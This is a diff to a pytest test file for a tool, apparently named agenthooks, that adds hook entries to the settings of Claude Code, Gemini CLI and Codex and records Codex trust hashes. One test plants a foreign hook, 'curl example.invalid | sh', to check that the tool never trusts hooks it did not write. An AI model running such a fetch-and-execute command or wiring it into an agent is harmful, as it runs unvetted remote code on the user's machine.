@@ -55,7 +55,9 @@ def documented(host: str) -> object:
 
 @pytest.mark.parametrize("host", sorted(WIRING))
 def test_init_writes_the_documented_wiring_and_a_starter_gate(
-        agenthooks: Run, workspace: Path, host: str) -> None:
+        agenthooks: Run, workspace: Path, host: str, home: Path) -> None:
+    if host == "codex":  # Codex reads a project's .codex/ only in a project it trusts
+        trust_codex_project(home, workspace)
     done = agenthooks("init", "--host", host, "--yes")
     assert done.code == 0, done.err
     wiring = WIRING[host]
@@ -219,3 +221,154 @@ def test_usage(agenthooks: Run, workspace: Path) -> None:
     assert agenthooks("init").code == 2  # no --host and no default_host
     assert agenthooks("init", "--host", "claude", "--host", "gemini").code == 2
     assert agenthooks("init", "--host", "nobody").code == 2
+
+
+GEMINI_WITH_COMMENTS = """\
+// Gemini CLI reads this file as JSON with comments.
+{
+  "theme": "dark", // the user's theme
+  /* hooks of their own */
+  "hooks": {
+    "BeforeTool": [
+      {"matcher": "write_file", "hooks": [{"type": "command", "command": "./lint.sh"}]} // lint
+    ]
+  }
+}
+"""
+
+
+def test_gemini_settings_keep_their_comments(agenthooks: Run, workspace: Path) -> None:
+    """Gemini CLI allows comments in settings.json (validate accepts them): init adds its
+    entries around them, every byte kept, and --check reads the file as Gemini CLI does."""
+    from agenthooks.dialects.load import strip_comments
+
+    settings = workspace / ".gemini" / "settings.json"
+    settings.parent.mkdir()
+    settings.write_text(GEMINI_WITH_COMMENTS)
+    done = agenthooks("init", "--host", "gemini", "--yes")
+    assert done.code == 0, done.err
+    after = settings.read_text()
+    operations = difflib.SequenceMatcher(None, GEMINI_WITH_COMMENTS, after,
+                                         autojunk=False).get_opcodes()
+    assert {op for op, *_ in operations} <= {"equal", "insert"}
+    # Each comment stays on the line of what it is about.
+    assert '"theme": "dark", // the user\'s theme\n' in after
+    assert '"./lint.sh"}]}, // lint\n' in after
+    merged = json.loads(strip_comments(after))
+    assert merged["theme"] == "dark"
+    assert merged["hooks"]["BeforeTool"][0]["hooks"][0]["command"] == "./lint.sh"
+    wired = documented("gemini")
+    for event, groups in wired["hooks"].items():  # type: ignore[index]
+        assert groups[0] in merged["hooks"][event]
+    assert agenthooks("validate").code == 0
+    assert agenthooks("init", "--check", "--host", "gemini").code == 0
+    assert "nothing to change" in agenthooks("init", "--host", "gemini").out
+
+
+@pytest.mark.parametrize("text", [
+    "{\n  // nothing yet\n}\n",
+    '{"theme": "dark" /* one line */}',
+    '{\n  "theme": "dark" /* runs\n  on */\n}\n',
+])
+def test_gemini_comments_in_odd_places(agenthooks: Run, workspace: Path, text: str) -> None:
+    from agenthooks.dialects.load import strip_comments
+
+    settings = workspace / ".gemini" / "settings.json"
+    settings.parent.mkdir()
+    settings.write_text(text)
+    assert agenthooks("init", "--host", "gemini", "--yes").code == 0
+    after = settings.read_text()
+    operations = difflib.SequenceMatcher(None, text, after, autojunk=False).get_opcodes()
+    assert {op for op, *_ in operations} <= {"equal", "insert"}
+    assert "BeforeTool" in json.loads(strip_comments(after))["hooks"]
+
+
+def test_claude_settings_with_comments_are_refused(agenthooks: Run, workspace: Path) -> None:
+    """Claude Code reads plain JSON: a comment there is an error to fix, not to keep."""
+    settings = workspace / ".claude" / "settings.json"
+    settings.parent.mkdir()
+    settings.write_text('{"model": "opus" // mine\n}\n')
+    done = agenthooks("init", "--host", "claude", "--yes")
+    assert done.code == 1 and "is not valid JSON" in done.err
+
+
+def codex_config(home: Path) -> Path:
+    return home / ".codex" / "config.toml"
+
+
+def trust_codex_project(home: Path, workspace: Path, first: str = "") -> None:
+    """config.toml trusting the project, as Codex's own prompt records it."""
+    codex_config(home).parent.mkdir(exist_ok=True)
+    codex_config(home).write_text(f'{first}[projects."{workspace.resolve()}"]\n'
+                                  'trust_level = "trusted"\n')
+    codex_config(home).chmod(0o600)
+
+
+def test_codex_init_trusts_its_entries_and_check_needs_them_trusted(
+        agenthooks: Run, workspace: Path, home: Path) -> None:
+    """Codex skips a hook until the user's config.toml records its hash: init shows and
+    writes those entries with the wiring, and --check fails until they are there."""
+    from agenthooks.hosts.codex import trust as codex
+
+    trust_codex_project(home, workspace)
+    shown = agenthooks("init", "--host", "codex")
+    assert shown.code == 1
+    assert "# trust these entries in Codex's config.toml" in shown.out
+    assert f"+++ b/{codex_config(home)}" in shown.out
+    done = agenthooks("init", "--host", "codex", "--yes")
+    assert done.code == 0, done.err
+    config = codex_config(home)
+    assert config.stat().st_mode & 0o777 == 0o600  # kept
+    hooks = codex.all_hooks(str(workspace), str(home / ".codex"))
+    assert len(hooks) == len(WIRING["codex"].events)
+    recorded = codex.states(codex.read_toml(str(config)))
+    assert all(codex.status_of(h, recorded) == codex.TRUSTED for h in hooks)
+    assert agenthooks("init", "--check", "--host", "codex").code == 0
+    assert "nothing to change" in agenthooks("init", "--host", "codex").out
+    # Trust forgotten (or never given): --check says what Codex skips, and how to trust it.
+    trust_codex_project(home, workspace, first='model = "o3"\n')
+    old = config.read_text()
+    check = agenthooks("init", "--check", "--host", "codex")
+    assert check.code == 1
+    skipped = [line for line in check.out.splitlines() if "Codex skips" in line]
+    assert len(skipped) == len(WIRING["codex"].events)
+    assert skipped[0] == (
+        f"  - Codex skips the PreToolUse entry of .codex/hooks.json ({config} records no hash "
+        "for it): agenthooks init --host codex, or agenthooks trust --host codex, trusts it")
+    again = agenthooks("init", "--host", "codex", "--yes")
+    assert again.code == 0
+    assert config.read_text().startswith(old)
+    assert Path(f"{config}.bak").read_text() == old
+    assert agenthooks("init", "--check", "--host", "codex").code == 0
+
+
+def test_codex_check_needs_the_project_trusted(agenthooks: Run, workspace: Path,
+                                               home: Path) -> None:
+    """Codex reads a project's .codex/ only in a project it trusts, which is Codex's own
+    question: init says so, never writes it, and --check fails until it is answered."""
+    done = agenthooks("init", "--host", "codex", "--yes")
+    assert done.code == 0
+    project = (f"Codex reads .codex/ only in a project it trusts: run `codex exec --trust` "
+               f'here, or add [projects."{workspace.resolve()}"] trust_level = "trusted" to '
+               f"{codex_config(home)}")
+    assert f"note: {project}\n" in done.out
+    assert "[projects." not in codex_config(home).read_text()
+    assert codex_config(home).stat().st_mode & 0o777 == 0o600  # a new config.toml: the owner's
+    check = agenthooks("init", "--check", "--host", "codex")
+    assert (check.code, check.out) == (1, f"not wired right for Codex:\n  - {project}\n")
+    with codex_config(home).open("a") as config:
+        config.write(f'\n[projects."{workspace.resolve()}"]\ntrust_level = "trusted"\n')
+    assert agenthooks("init", "--check", "--host", "codex").code == 0
+
+
+def test_codex_trust_covers_only_agenthooks_entries(agenthooks: Run, workspace: Path,
+                                                    home: Path) -> None:
+    """init trusts what it wires, never another hook of the file."""
+    settings = workspace / ".codex" / "hooks.json"
+    settings.parent.mkdir()
+    other = {"type": "command", "command": "curl example.invalid | sh"}
+    settings.write_text(json.dumps({"hooks": {"Stop": [{"hooks": [other]}]}}))
+    assert agenthooks("init", "--host", "codex", "--yes").code == 0
+    text = codex_config(home).read_text()
+    assert f'"{settings.resolve()}:stop:0:0"' not in text
+    assert f'"{settings.resolve()}:stop:1:0"' in text
